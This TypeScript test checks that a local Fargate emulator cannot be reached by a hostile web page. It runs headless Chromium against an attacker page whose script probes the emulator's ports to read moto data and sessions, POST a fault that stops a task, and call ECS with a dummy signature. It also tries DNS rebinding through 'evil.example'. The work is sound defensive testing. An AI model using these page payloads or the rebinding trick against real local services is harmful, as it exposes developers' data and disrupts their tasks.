/**
 * Proves that no web page in a browser on this machine reaches `npm run local`: a page in a real headless Chromium tries what a page can
 * (Debian's package `chromium`). The page knows every port that the local Fargate's processes listen on, as a page that scans them does.
 */
import { execFile, spawn } from "node:child_process";
import { existsSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { delimiter, join, resolve } from "node:path";
import { createInterface } from "node:readline";
import { setTimeout as sleep } from "node:timers/promises";
import { promisify } from "node:util";

const PATIENCE_MS = 60_000;
/** A name of the attacker's that leads to this machine (DNS rebinding). */
const REBOUND = "evil.example";

/** The attacks of the page, for one port. Each has the name that it reports when it succeeds. */
const PAGE = `<!doctype html><title>page</title><script type="module">
  const ports = new URL(location).searchParams.get("ports").split(",");
  const report = (words) => fetch("/report", { method: "POST", body: words });
  for (const port of ports) {
    const at = "http://127.0.0.1:" + port;
    const read = async (path) => (await (await fetch(at + path)).text()).slice(0, 80);
    await read("/moto-api/data.json").then((text) => report("reads all that moto keeps: " + text), () => 0);
    await read("/_local/sessions").then((text) => text.startsWith("[") && report("reads the sessions: " + text), () => 0);
    await fetch(at + "/_local/faults", {
      method: "POST", mode: "no-cors",
      body: JSON.stringify({ task: { stopCode: "SpotInterruption", stoppedReason: "a page has stopped it" } }),
    }).catch(() => 0);
    await fetch(at + "/", {
      method: "POST",
      headers: { "x-amz-target": "AmazonEC2ContainerServiceV20141113.ListClusters", "content-type": "application/x-amz-json-1.1",
        authorization: "AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20260101/us-east-1/ecs/aws4_request, SignedHeaders=host, Signature=0" },
      body: "{}",
    }).then(async (answer) => answer.ok && report("lists the clusters: " + (await answer.text())), () => 0);
  }
  await report("done");
</script>`;

async function prove(): Promise<boolean> {
  const local = spawn(process.execPath, ["local/cli.ts"], {
    cwd: resolve(import.meta.dirname, ".."),
    env: { ...process.env, FARGATE_LOCAL_MOTO: undefined },
    stdio: ["ignore", "pipe", "pipe"],
  });
  const ended = new Promise<void>((settle) => local.once("close", () => settle()));
  const lines: string[] = [];
  for (const stream of [local.stdout, local.stderr])
    createInterface({ input: stream }).on("line", (line) => lines.push(line));
  const reports: string[] = [];
  const attacker = createServer((request, response) => {
    if (request.url !== "/report") {
      response.setHeader("content-type", "text/html").end(PAGE);
      return;
    }
    const words: Buffer[] = [];
    request
      .on("data", (chunk: Buffer) => words.push(chunk))
      .on("end", () => {
        reports.push(Buffer.concat(words).toString("utf8"));
        response.end();
      });
  });
  try {
    await until(() => lines.some((line) => /^# task .* RUNNING$/.test(line)));
    await new Promise<void>((settle) => attacker.listen(0, "127.0.0.1", settle));
    const url = /AWS_ENDPOINT_URL=(\S+)/.exec(lines.join("\n"))?.[1] ?? "";
    const ports = portsOf(local.pid ?? 0);
    const page = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/?ports=${ports.join(",")}`;
    await browse(page, () => until(() => reports.includes("done")));
    const rebound = await documentAt(`http://${REBOUND}:${new URL(url).port}/_local/sessions`);
    if (/\[[\s\S]*\]/.test(rebound.replace(/<[^>]*>/g, "")))
      reports.push("reads the sessions under a name of its own");
    // An order that has got through shows within the time that its task takes to stop.
    await sleep(3_000);
    if (lines.some((line) => line.endsWith(" DEACTIVATING"))) reports.push("stops a task");
    const succeeded = reports.filter((words) => words !== "done");
    console.log(`The page knew ${ports.length} port(s).`);
    for (const words of succeeded) console.log(`FAILED The page ${words}`);
    return succeeded.length === 0;
  } finally {
    attacker.close();
    attacker.closeAllConnections();
    local.kill("SIGTERM");
    await ended;
  }
}

/** Opens a page in a new browser until `seen` has resolved. */
async function browse(url: string, seen: () => Promise<void>): Promise<void> {
  const { flags, profile } = newBrowser();
  const browser = spawn(chromium(), [...flags, url], { stdio: "ignore" });
  const closed = new Promise<void>((settle) => browser.once("close", () => settle()));
  try {
    await seen();
  } finally {
    browser.kill();
    await closed;
    rmSync(profile, { recursive: true, force: true });
  }
}

/** The document at an address, as a new browser shows it. */
async function documentAt(url: string): Promise<string> {
  const { flags, profile } = newBrowser();
  try {
    return (await promisify(execFile)(chromium(), [...flags, "--dump-dom", url])).stdout;
  } finally {
    rmSync(profile, { recursive: true, force: true });
  }
}

/** The browser's program, which has another name in each distribution. */
function chromium(): string {
  const names = ["chromium", "chromium-browser", "google-chrome"];
  const directories = (process.env["PATH"] ?? "").split(delimiter);
  const found = names.find((name) => directories.some((directory) => existsSync(join(directory, name))));
  if (found === undefined) throw new Error(`This proof needs one of these programs: ${names.join(", ")}.`);
  return found;
}

function newBrowser(): { readonly flags: readonly string[]; readonly profile: string } {
  const profile = mkdtempSync(join(tmpdir(), "browser-"));
  const flags = [
    ...["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"],
    ...["--disable-background-networking", "--disable-component-update", "--disable-sync"],
    ...[`--user-data-dir=${profile}`, `--host-resolver-rules=MAP ${REBOUND} 127.0.0.1`],
  ];
  return { flags, profile };
}

/** The ports on which a process and its descendants listen. */
function portsOf(root: number): readonly number[] {
  const pids = readdirSync("/proc").filter((name) => /^\d+$/.test(name) && isBelow(Number(name), root));
  const sockets = new Set(pids.flatMap((pid) => linksIn(`/proc/${pid}/fd`)));
  const rows = readFileSync("/proc/net/tcp", "latin1").split("\n").slice(1);
  return rows
    .map((row) => row.trim().split(/\s+/))
    .filter(([, , , state, , , , , , inode]) => state === "0A" && sockets.has(`socket:[${inode}]`))
    .map(([, address = ""]) => parseInt(address.split(":")[1] ?? "", 16));
}

function isBelow(pid: number, root: number): boolean {
  if (pid === root || pid <= 1) return pid === root;
  try {
    const parent = /^PPid:\s*(\d+)$/m.exec(readFileSync(`/proc/${pid}/status`, "latin1"))?.[1];
    return isBelow(Number(parent ?? 0), root);
  } catch {
    return false; // It has ended.
  }
}

function linksIn(directory: string): readonly string[] {
  try {
    return readdirSync(directory).map((name) => readlinkSync(join(directory, name)));
  } catch {
    return []; // It has ended.
  }
}

async function until(isSo: () => boolean): Promise<void> {
  const end = Date.now() + PATIENCE_MS;
  while (!isSo()) {
    if (Date.now() > end) throw new Error(`waited in vain for ${String(isSo)}`);
    await sleep(50);
  }
}

process.exitCode = (await prove()) ? 0 : 1;
